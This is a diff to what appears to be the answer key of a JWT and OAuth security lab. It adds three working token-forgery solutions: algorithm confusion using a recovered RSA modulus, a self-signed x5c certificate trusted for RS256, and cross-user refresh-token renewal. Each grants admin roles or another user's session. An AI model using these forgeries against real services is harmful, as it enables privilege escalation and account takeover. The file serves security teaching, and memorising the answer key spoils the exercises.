@@ -39,4 +39,26 @@ SOLUTIONS = {
                 raise jwt.ExpiredSignatureError("expired by the lab clock")
             return verified
     """,
+    "RecoverTheUnpublishedKey": """
+        def forge(token1: str, token2: str) -> str:
+            n = recover_rsa_modulus([token1, token2], e=3)
+            public_key = rsa.RSAPublicNumbers(3, n).public_key()
+            pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+            header = {**jwt.get_unverified_header(token1), "alg": "HS256"}
+            return hs256_by_hand(header, {**claims(token1), "roles": ["admin"]}, pem)
+    """,
+    "TrustTheCertificate": """
+        def forge(token: str) -> str:
+            key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+            header = {"typ": "at+jwt", "kid": "mine", "x5c": x5c_of(self_signed_certificate(key))}
+            return jwt.encode({**claims(token), "roles": ["admin"]}, key, algorithm="RS256", headers=header)
+    """,
+    "RenewSomeoneElse": """
+        def renew(url: str, bob_refresh_token: str, alice_expired_access_token: str) -> dict:
+            r = requests.post(url + "/oauth/token",
+                              data={"grant_type": "refresh_token", "refresh_token": bob_refresh_token},
+                              headers={"Authorization": "Bearer " + alice_expired_access_token})
+            r.raise_for_status()
+            return r.json()
+    """,
 }
